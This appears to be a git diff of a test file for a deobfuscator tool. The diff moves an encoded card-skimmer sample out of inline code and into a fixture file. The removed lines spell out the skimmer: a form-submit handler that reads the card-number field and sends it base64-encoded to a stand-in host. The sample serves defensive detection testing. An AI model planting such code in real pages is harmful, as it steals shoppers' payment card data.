@@ -1,5 +1,4 @@
 import { readFile } from 'node:fs/promises'
-import { jjencode } from '#test/data/symbol-encoders.ts'
 import { dropOn, idle } from '../screen.ts'
 import { expect, test } from '../test.ts'
 import { box, part, paste, path, result, trySample } from './deobfuscate-screen.ts'
@@ -108,12 +107,9 @@ test.describe('the deobfuscator', () => {
 
   test('unpacks a skimmer that is written in symbols', async ({ openSite }) => {
     const { page } = await openSite({ path })
-    await paste(
-      page,
-      jjencode(
-        'document.onsubmit=function(){new Image().src="https://p.invalid/?"+btoa(document.querySelector("#cardnumber").value)}',
-      ),
-    )
+    // A skimmer, encoded with jjencode.
+    const script = await readFile(new URL('skimmer-in-symbols.txt', import.meta.url), 'utf8')
+    await paste(page, script)
     await expect(page.getByText('It looks like a card skimmer')).toBeVisible()
     await expect(part(page, 'Where it sends and loads').getByText('https://p.invalid/?…')).toBeVisible()
   })
